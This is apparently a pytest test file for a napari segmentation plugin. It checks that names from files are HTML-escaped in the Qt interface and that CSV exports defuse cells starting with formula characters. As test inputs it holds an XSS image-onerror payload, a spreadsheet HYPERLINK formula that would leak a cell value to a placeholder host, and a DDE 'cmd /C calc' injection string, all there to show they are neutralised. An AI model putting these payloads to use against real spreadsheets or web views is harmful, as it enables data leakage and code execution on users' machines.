"""Issue 23 item 12: names from files are data, never markup or formulas.

Case, class and engine names are escaped in the dock's rich text (a class called ``<img …>``
is shown as written), and ``provenance.csv`` cells that a spreadsheet would run as a formula
get a leading apostrophe, while ``provenance.json`` keeps every value exactly.
"""

import csv
import json

import pytest

from napari_alseg._qt.describe import describe, model_text, rich
from napari_alseg.domain import QueryItem
from napari_alseg.store import Project
from napari_alseg.store.export import csv_cell
from napari_alseg.strategies import Suggestion
from test_store import make_source, submit_slice

HOSTILE_CLASS = '<img src="x" onerror="alert(1)">'
FORMULA_ANNOTATOR = '=HYPERLINK("http://example.invalid/?"&A1, "click")'


def test_rich_escapes_markup():
    assert rich('a<b>&"c"') == "a&lt;b&gt;&amp;&quot;c&quot;"


def test_the_suggestion_text_shows_names_as_written():
    names = ("background", HOSTILE_CLASS, "<b>bold</b>")
    suggestion = Suggestion(QueryItem("case<i>1</i>", 3, 1), 0.5, "margins<br>", {}, None,
                            message="see <a href=x>")
    text = describe(suggestion, names)
    for raw in (HOSTILE_CLASS, "case<i>1</i>", "margins<br>", "<a href=x>"):
        assert raw not in text
    assert "&lt;img src=&quot;x&quot;" in text and "case&lt;i&gt;1&lt;/i&gt;" in text
    assert text.startswith("<b>") and "<br>" in text  # the markup of our own is kept


def test_the_model_text_escapes_class_names():
    text = model_text("v0001<script>", {"val_dice": 0.5, "val_dice_per_class": [None, 0.4]}, ["background", HOSTILE_CLASS])
    assert HOSTILE_CLASS not in text and "<script>" not in text
    assert "&lt;img" in text and "v0001&lt;script&gt;" in text


def test_the_model_text_reads_each_class_dice_by_class_id_whatever_the_class_is_called():
    metrics = {"val_dice": 0.65, "val_dice_per_class": [None, 0.41, float("nan"), 0.9]}
    text = model_text("v0002", metrics, ["background", "x_y", "absent", "renamed later"])
    assert text.endswith("<br>x_y 0.41, renamed later 0.90")  # absent: no Dice on the validation split


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("tumour", "tumour"), ("", ""), (-1.5, -1.5), (3, 3), (None, None),
])
def test_csv_cells_that_start_like_a_formula_are_neutralised(value, shown):
    assert csv_cell(value) == shown


def test_provenance_csv_holds_no_live_formula(tmp_path):
    classes = {"0": {"name": "background"}, "1": {"name": "-lesion"}, "2": {"name": "@edema"}}
    source = make_source(tmp_path / "source", n_cases=2, classes=classes)
    with Project.create(tmp_path / "project", source) as project:
        submit_slice(project, annotator=FORMULA_ANNOTATOR, class_id=1)
        project.export(tmp_path / "out")
    with open(tmp_path / "out" / "provenance.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], cells
    assert rows[0]["annotator"] == "'" + FORMULA_ANNOTATOR
    kept = json.loads((tmp_path / "out" / "provenance.json").read_text())
    assert kept["events"][0]["annotator"] == FORMULA_ANNOTATOR  # the JSON keeps values exactly
    assert [c["name"] for c in kept["classes"]] == ["background", "-lesion", "@edema"]
    assert rows[0]["class_name"] == "'-lesion" and kept["events"][0]["class_name"] == "-lesion"


# --------------------------------------------------------------------------- labels that guess rich text


def _might_be_rich(text):
    from qtpy.QtCore import Qt

    return Qt.mightBeRichText(text)


@pytest.mark.parametrize("message", [
    f"class {HOSTILE_CLASS} has no outline", "<b>case</b> & R&lt;D", "first line\n<i>second</i>", "a < b > c",
])
def test_plain_text_survives_a_label_that_guesses_rich_text(message):
    from napari_alseg._widget import as_written

    shown = as_written(message)
    assert not _might_be_rich(shown)
    assert shown.replace("\u2060", "") == message  # the same characters on screen


@pytest.fixture
def hostile_dock(make_napari_viewer_proxy, qtbot, tmp_path, monkeypatch):
    """The dock on a project whose class and dataset are named like markup."""
    from napari_alseg._widget import AlsegWidget

    classes = {"0": {"name": "background"}, "1": {"name": HOSTILE_CLASS}, "2": {"name": "<b>edema</b>"}}
    source = make_source(tmp_path / "source", n_cases=2, classes=classes)
    dataset = json.loads((source / "dataset.json").read_text())
    (source / "dataset.json").write_text(json.dumps({**dataset, "name": "<i>trial</i> & co"}))
    monkeypatch.setenv("ALSEG_PROJECTS_DIR", str(tmp_path / "projects"))
    dock = AlsegWidget(make_napari_viewer_proxy())
    qtbot.addWidget(dock)
    dock.controller.create_project(source, tmp_path / "project")
    yield dock
    dock.controller.close_project()


@pytest.mark.gui
def test_notifications_show_names_as_written(hostile_dock, monkeypatch):
    shown = []
    for kind in ("show_error", "show_warning", "show_info"):
        monkeypatch.setattr(f"napari_alseg._widget.{kind}", shown.append)
    controller = hostile_dock.controller
    messages = [f"class {HOSTILE_CLASS}: no outline", "case <b>x</b> & R&lt;D", "<i>model</i> kept"]
    for signal, message in zip((controller.error, controller.warning, controller.info), messages):
        signal.emit(message)
    assert [m.replace("\u2060", "") for m in shown] == messages
    assert not [m for m in shown if _might_be_rich(m)], shown


@pytest.mark.gui
def test_the_status_line_and_tabs_show_names_as_written(hostile_dock):
    from qtpy.QtCore import Qt

    from napari_alseg._qt.editing import item_text

    dock = hostile_dock
    line = f"Annotating {item_text(QueryItem('case_000', 1, 1), dock.controller.session.catalog.class_names)}."
    dock.controller.status.emit(line)
    assert dock.status.text() == line and HOSTILE_CLASS in line
    assert dock.status.textFormat() == Qt.TextFormat.PlainText
    label = dock.project_tab.project_label
    assert "<i>trial</i> & co" in label.text() and label.textFormat() == Qt.TextFormat.PlainText
    review = dock.review_tab
    for plain in (review.note, review.review_note):
        assert plain.textFormat() == Qt.TextFormat.PlainText
    assert review.basis_label.textFormat() == Qt.TextFormat.RichText


def test_the_review_basis_escapes_its_note():
    from napari_alseg._qt.review_tab import basis_text

    text = basis_text(3, f"class {HOSTILE_CLASS} never predicted")
    assert HOSTILE_CLASS not in text and "class &lt;img src=&quot;x&quot;" in text
    assert text.endswith("<i>Note: class &lt;img src=&quot;x&quot; onerror=&quot;alert(1)&quot;&gt; never "
                         "predicted.</i>")


# --------------------------------------------------------------------------- other CSVs


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_the_ranked_scores_csv_holds_no_live_formula(tmp_path):
    from napari_alseg.scoring.distributed import write_ranked_csv

    rows = [("=cmd|' /C calc'!A0", None, 0.9, {"entropy": -0.5}), ("case_001", 3, 0.4, {"entropy": 0.25})]
    ranked = _cells(write_ranked_csv(rows, tmp_path / "ranked.csv"))
    assert [row["case"] for row in ranked] == ["'=cmd|' /C calc'!A0", "case_001"]
    assert ranked[0]["entropy"] == "-0.5"  # numbers stay numbers


def test_the_simulation_csvs_hold_no_live_formula(tmp_path):
    from napari_alseg.simulation.cohort import ITEM_COLUMNS, _AppendedCsv
    from napari_alseg.simulation.files import RoundsCsv

    rounds = RoundsCsv(tmp_path / "rounds.csv")
    rounds.use_columns(("strategy", "seed", "round", "dice_test", "model_version"))
    rounds.append({"strategy": "entropy", "seed": "0", "round": "1", "dice_test": "-0.25",
                   "model_version": "@v0001"}, None)
    assert _cells(tmp_path / "rounds.csv") == [{"strategy": "entropy", "seed": "0", "round": "1",
                                                 "dice_test": "-0.25", "model_version": "'@v0001"}]
    assert RoundsCsv(tmp_path / "rounds.csv").has("entropy", 0, 1)
    items = _AppendedCsv(tmp_path / "items.csv", ITEM_COLUMNS)
    row = dict.fromkeys(ITEM_COLUMNS, "-1.5")
    row.update({"engine": "-", "workflow": "trace", "case": "+HYPERLINK(1)", "how": "traced"})
    items.extend([row])
    written = _cells(tmp_path / "items.csv")[0]
    assert (written["case"], written["engine"]) == ("'+HYPERLINK(1)", "-")  # the trace rows' engine is ours
    assert written["seconds"] == "-1.5"  # numbers stay numbers
